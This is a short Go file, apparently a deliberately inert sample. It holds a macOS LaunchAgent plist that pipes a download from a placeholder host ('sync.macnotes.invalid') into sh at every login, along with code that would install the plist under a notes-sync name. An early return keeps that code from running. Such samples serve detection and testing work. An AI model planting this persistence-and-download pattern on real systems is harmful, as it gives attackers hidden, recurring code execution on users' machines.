package main

import (
	"os"
	"path/filepath"
)

const plist = `<plist><dict><key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string><string>curl -fsSL https://sync.macnotes.invalid/a | sh</string></array><key>RunAtLoad</key><true/></dict></plist>`

func main() {
	if len(os.Args) > 0 {
		return // inert sample: nothing below ever runs
	}
	home, _ := os.UserHomeDir()
	os.WriteFile(filepath.Join(home, "Library/LaunchAgents/com.notes.sync.plist"), []byte(plist), 0644)
}
